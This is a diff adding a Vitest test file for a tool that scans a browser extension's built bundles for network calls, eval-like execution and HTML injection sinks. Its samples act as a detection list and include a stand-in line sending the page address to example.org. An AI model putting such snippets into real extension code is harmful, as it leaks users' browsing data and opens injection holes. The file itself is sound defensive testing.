@@ -1,0 +1,32 @@
+/** Protects the scan of the built bundles: it must see what it is there for, and only that. */
+import { expect, test } from 'vitest';
+// @ts-expect-error a script of the commands, written in plain JavaScript since it runs before anything is built
+import { findings } from '../../../tools/scripts/scan-bundles.mjs';
+
+const seen = (file: string, text: string): string[] =>
+  (findings(file, text) as { what: string }[]).map(({ what }) => what);
+
+test.each([
+  ['fetch', 'await fetch("https://example.org/?"+location.href)'],
+  ['fetch', 'window.fetch(u)'],
+  ['XMLHttpRequest', 'new XMLHttpRequest'],
+  ['WebSocket', 'new WebSocket(u)'],
+  ['sendBeacon', 'navigator.sendBeacon(u,d)'],
+  ['eval', 'eval(x)'],
+  ['Function', 'new Function("return 1")()'],
+  ['innerHTML', 'e.innerHTML=x'],
+  ['Image', '(new Image).src=u'],
+  ['page with an outside address', '<script src="https://example.org/a.js">'],
+])('%s is found in %s', (what, text) => {
+  expect(seen('content-scripts/reader.js', text)).toContain(what);
+});
+
+test('longer names and comments on them are no findings', () => {
+  expect(seen('background.js', 'prefetch(x); myeval(y); a.evaluate(z); isFunction(q)')).toEqual([]);
+});
+
+test('an allowed word is allowed only where its reason holds', () => {
+  expect(seen('background.js', 'fetch(browser.runtime.getURL("claims/index.bin"))')).toEqual([]);
+  expect(seen('content-scripts/reader.js', 'fetch(browser.runtime.getURL("claims/index.bin"))')).toEqual(['fetch']);
+  expect(seen('background.js', 'fetch("https://example.org")')).toEqual(['fetch']);
+});
